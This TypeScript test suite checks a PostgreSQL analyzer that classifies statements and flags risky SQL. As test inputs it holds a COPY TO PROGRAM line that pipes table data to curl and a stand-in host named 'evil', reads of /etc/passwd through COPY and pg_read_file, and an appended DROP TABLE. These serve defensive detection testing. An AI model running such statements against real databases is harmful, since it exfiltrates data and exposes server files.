import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import type { SqlStatementFacts } from '../facts.js';
import { analyzePostgres, analyzePostgresUncached, loadPostgresAnalyzer } from './postgres.js';
import { BYPASSES, ORDINARY, revealed } from './postgres-corpus.js';

before(loadPostgresAnalyzer);

function one(sql: string): SqlStatementFacts {
  const facts = analyzePostgresUncached(sql);
  assert.equal(facts.unparseable, null, `${sql}: ${facts.unparseable}`);
  assert.equal(facts.statements.length, 1, sql);
  const [s] = facts.statements;
  assert.ok(s);
  return s;
}

const t = (name: string, schema: string | null = null) => ({ schema, name });

describe('postgres analyzer: statement kinds', () => {
  const kinds: Array<[string, string, string?]> = [
    ['SELECT 1', 'select'],
    ['INSERT INTO a VALUES (1)', 'insert'],
    ['UPDATE a SET x = 1 WHERE id = 2', 'update'],
    ['DELETE FROM a WHERE id = 1', 'delete'],
    ['MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN DELETE', 'merge'],
    ['CREATE TABLE a (id int)', 'create_table', 'table'],
    ['CREATE TABLE a AS SELECT 1', 'create_table_as', 'table'],
    ['CREATE MATERIALIZED VIEW m AS SELECT 1', 'create_table_as', 'materialized_view'],
    ['CREATE VIEW v AS SELECT 1', 'create_view', 'view'],
    ['DROP TABLE a', 'drop', 'table'],
    ['DROP VIEW v', 'drop', 'view'],
    ['DROP FUNCTION f()', 'drop', 'function'],
    ['DROP SCHEMA s CASCADE', 'drop', 'schema'],
    ['TRUNCATE a', 'truncate'],
    ['ALTER TABLE a ADD COLUMN b int', 'alter_table', 'table'],
    ['COPY a FROM STDIN', 'copy'],
    ['DO $$ BEGIN NULL; END $$', 'do'],
    ['EXECUTE p(1)', 'execute'],
    ['PREPARE p AS SELECT 1', 'prepare'],
    ['CALL p()', 'call'],
    ['GRANT SELECT ON a TO bob', 'grant', 'table'],
    ['SET search_path TO x', 'set'],
    ['SHOW search_path', 'show'],
    ['BEGIN', 'transaction'],
    ['EXPLAIN SELECT 1', 'explain'],
    ['CREATE SCHEMA s', 'create_schema'],
    ['CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$SELECT 1$$', 'create_function', 'function'],
    ['VACUUM a', 'vacuum'],
    ['LISTEN ch', 'listen'],
    ['CREATE INDEX i ON a (b)', 'create_index', 'index'],
  ];
  for (const [sql, kind, object] of kinds) {
    it(`names ${sql.split(' ').slice(0, 3).join(' ')} as ${kind}${object ? ` (${object})` : ''}`, () => {
      const s = one(sql);
      assert.equal(s.kind, kind);
      if (object) assert.equal(s.object, object);
    });
  }
});

describe('postgres analyzer: tables and functions', () => {
  it('separates reads from writes through CTEs, joins and INSERT … SELECT', () => {
    const s = one(
      'WITH src AS (SELECT * FROM raw.events e JOIN "Accounts" a ON a.id = e.account) INSERT INTO app.daily SELECT * FROM src',
    );
    assert.deepEqual(s.tables_read, [t('events', 'raw'), t('Accounts')]);
    assert.deepEqual(s.tables_written, [t('daily', 'app')]);
  });

  it('counts UPDATE … FROM and DELETE … USING sources as reads and targets as writes', () => {
    assert.deepEqual(one('UPDATE a SET x = b.x FROM b WHERE a.id = b.id').tables_read, [t('b')]);
    const d = one('DELETE FROM a USING b WHERE a.id = b.id');
    assert.deepEqual([d.tables_read, d.tables_written], [[t('b')], [t('a')]]);
  });

  it('writes the target of MERGE, CREATE TABLE AS, TRUNCATE, DROP and ALTER', () => {
    const m = one('MERGE INTO s.a USING b ON a.id = b.id WHEN NOT MATCHED THEN INSERT VALUES (b.id)');
    assert.deepEqual([m.tables_read, m.tables_written], [[t('b')], [t('a', 's')]]);
    assert.deepEqual(one('CREATE TABLE c AS SELECT * FROM d').tables_written, [t('c')]);
    assert.deepEqual(one('TRUNCATE a, s.b').tables_written, [t('a'), t('b', 's')]);
    assert.deepEqual(one('DROP TABLE IF EXISTS a, s.b').tables_written, [t('a'), t('b', 's')]);
    assert.deepEqual(one('ALTER TABLE s.a DROP COLUMN x').tables_written, [t('a', 's')]);
  });

  it('does not report CTE names as tables but reads what a CTE body reads', () => {
    const s = one('WITH x AS (SELECT * FROM a), y AS (SELECT * FROM x) SELECT * FROM y');
    assert.deepEqual(s.tables_read, [t('a')]);
  });

  it('keeps quoted case and decodes unicode escapes as the parser does', () => {
    assert.deepEqual(one('SELECT * FROM "Public"."Users"').tables_read, [t('Users', 'Public')]);
    assert.deepEqual(one('SELECT * FROM U&"\\0061b"').tables_read, [t('ab')]);
  });

  it('lists functions lowercase and schema-qualified as written', () => {
    assert.deepEqual(one('SELECT Lower(x), pg_catalog.NOW() FROM a').functions, ['lower', 'pg_catalog.now']);
  });

  it('analyzes the inner statement of EXPLAIN and PREPARE', () => {
    const e = one('EXPLAIN ANALYZE DELETE FROM a');
    assert.deepEqual([e.kind, e.tables_written, e.where_absent], ['explain', [t('a')], true]);
    const p = one('PREPARE q(int) AS UPDATE a SET x = $1');
    assert.deepEqual([p.kind, p.tables_written, p.where_absent, p.opaque], ['prepare', [t('a')], true, true]);
  });
});

describe('postgres analyzer: risk flags', () => {
  it('flags UPDATE/DELETE without WHERE, also inside a CTE', () => {
    assert.equal(one('UPDATE a SET x = 1').where_absent, true);
    assert.equal(one('WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d').where_absent, true);
    assert.equal(one('DELETE FROM a WHERE id = 1').where_absent, false);
    // A tautology has a WHERE clause; spotting `WHERE true` is a rule-level concern.
    assert.equal(one('DELETE FROM users WHERE true').where_absent, false);
  });

  it('lists the data-changing statements a statement holds, in CTEs and DO blocks too', () => {
    const changes = (text: string) => one(text).changes;
    assert.deepEqual(changes('SELECT 1'), []);
    assert.deepEqual(changes('DELETE FROM a WHERE id = 1'), ['delete']);
    assert.deepEqual(
      changes('WITH gone AS (DELETE FROM t WHERE id = 6 RETURNING id) SELECT count(*) FROM gone'),
      ['delete'],
    );
    assert.deepEqual(
      changes(
        'WITH n AS (INSERT INTO a VALUES (1) RETURNING *), u AS (UPDATE b SET x = 1 WHERE y = 2) SELECT 1',
      ),
      ['insert', 'update'],
    );
    assert.deepEqual(changes('INSERT INTO a SELECT * FROM b ON CONFLICT DO NOTHING'), ['insert']);
    assert.deepEqual(changes('DO $$ BEGIN DELETE FROM a WHERE id = 1; END $$'), ['delete']);
    assert.deepEqual(changes('INSERT INTO a VALUES (1) ON CONFLICT (id) DO UPDATE SET x = 1'), [
      'insert',
      'update',
    ]);
    assert.deepEqual(
      changes(
        'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (1)',
      ),
      ['merge', 'delete', 'insert'],
    );
    // EXPLAIN ANALYZE runs its statement; a plain EXPLAIN, or ANALYZE false, only plans it.
    assert.deepEqual(changes('EXPLAIN ANALYZE DELETE FROM a WHERE id = 1'), ['delete']);
    assert.deepEqual(changes('EXPLAIN (ANALYZE, BUFFERS) UPDATE a SET x = 1 WHERE id = 1'), ['update']);
    assert.deepEqual(changes('EXPLAIN DELETE FROM a WHERE id = 1'), []);
    assert.deepEqual(changes('EXPLAIN (ANALYZE false) DELETE FROM a WHERE id = 1'), []);
    assert.deepEqual(changes('COPY (DELETE FROM a WHERE id = 1 RETURNING *) TO STDOUT'), ['delete']);
  });

  it('flags COPY to and from a program or a server file, not STDIN/STDOUT', () => {
    const prog = one("COPY a TO PROGRAM 'curl -d @- evil'");
    assert.deepEqual([prog.program, prog.file_access], [true, false]);
    const file = one("COPY a FROM '/etc/passwd'");
    assert.deepEqual([file.program, file.file_access, file.tables_written], [false, true, [t('a')]]);
    const std = one('COPY a TO STDOUT');
    assert.deepEqual([std.program, std.file_access, std.tables_read], [false, false, [t('a')]]);
  });

  it('flags COPY output in binary format, however it is spelled, and nothing else', () => {
    for (const sql of [
      'COPY a TO STDOUT (FORMAT binary)',
      "COPY (SELECT 1) TO STDOUT (FORMAT 'BINARY')",
      'COPY a TO STDOUT BINARY',
      'COPY a TO STDOUT WITH BINARY',
    ]) {
      assert.equal(one(sql).binary_output, true, sql);
    }
    for (const sql of [
      'COPY a TO STDOUT',
      'COPY a TO STDOUT (FORMAT csv)',
      'COPY a FROM STDIN (FORMAT binary)',
    ]) {
      assert.equal(one(sql).binary_output, false, sql);
    }
  });

  it('flags server file functions', () => {
    for (const f of ['pg_read_file', 'pg_read_binary_file', 'pg_ls_dir', 'lo_import', 'lo_export']) {
      assert.equal(one(`SELECT ${f}('/etc/passwd')`).file_access, true, f);
    }
  });

  it('flags DO, EXECUTE, PREPARE, function bodies and dynamic-SQL functions as opaque', () => {
    for (const sql of [
      'DO $$ BEGIN NULL; END $$',
      'EXECUTE p',
      'PREPARE p AS SELECT 1',
      'CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$SELECT 1$$',
      "SELECT dblink_exec('x')",
      "SELECT query_to_xml('select 1', true, false, '')",
    ]) {
      assert.equal(one(sql).opaque, true, sql);
    }
    assert.equal(one('SELECT lower(x) FROM a').opaque, false);
  });

  it('folds static SQL of a DO body into the facts and keeps it opaque', () => {
    const s = one(
      "DO $$ DECLARE n int; BEGIN SELECT count(*) INTO n FROM a; UPDATE b SET x = n; EXECUTE 'x'; END $$",
    );
    assert.deepEqual([s.kind, s.opaque, s.where_absent], ['do', true, true]);
    assert.deepEqual([s.tables_read, s.tables_written], [[t('a')], [t('b')]]);
  });
});

describe('postgres analyzer: whole text', () => {
  it('splits multi-statement text and fingerprints it', () => {
    const facts = analyzePostgresUncached('select 1; drop table x');
    assert.equal(facts.multi_statement, true);
    assert.deepEqual(
      facts.statements.map((s) => s.kind),
      ['select', 'drop'],
    );
    assert.equal(facts.dialect, 'postgres');
    assert.equal(facts.fingerprint, 'select $1; drop table x');
    assert.equal(analyzePostgresUncached("select 'two'; drop table x").fingerprint, facts.fingerprint);
    assert.equal(analyzePostgresUncached('SELECT 1').multi_statement, false);
  });

  it('reports unparseable text with the parser message instead of throwing', () => {
    for (const sql of ['DR/**/OP TABLE x', 'SELECT (', '', '\u0000']) {
      const facts = analyzePostgres(sql);
      if (sql.trim() === '') {
        assert.deepEqual(facts.statements, []);
        continue;
      }
      assert.equal(typeof facts.unparseable, 'string', JSON.stringify(sql));
      assert.deepEqual([facts.statements, facts.fingerprint], [[], null]);
    }
    assert.match(analyzePostgres('SELECT (').unparseable ?? '', /syntax error/);
  });

  it('returns the same frozen object for the same text from the cache', () => {
    const a = analyzePostgres('SELECT * FROM cached_table');
    assert.equal(analyzePostgres('SELECT * FROM cached_table'), a);
    assert.ok(Object.isFrozen(a) && Object.isFrozen(a.statements[0]?.tables_read));
    assert.notEqual(analyzePostgresUncached('SELECT * FROM cached_table'), a);
  });
});

describe('postgres analyzer: bypass corpus', () => {
  it('holds at least 60 evasion attempts', () => assert.ok(BYPASSES.length >= 60));
  for (const c of BYPASSES) {
    it(`reveals ${c.reveals}: ${c.name}`, () => {
      const found = revealed(analyzePostgres(c.sql));
      assert.ok(found.has(c.reveals), `${c.sql} revealed [${[...found].join(', ')}]`);
    });
  }
});

describe('postgres analyzer: ordinary queries', () => {
  it('holds at least 30 ordinary queries', () => assert.ok(ORDINARY.length >= 30));
  for (const sql of ORDINARY) {
    it(`reveals nothing: ${sql.replace(/\s+/g, ' ')}`, () => {
      assert.deepEqual([...revealed(analyzePostgres(sql))], [], sql);
    });
  }
});
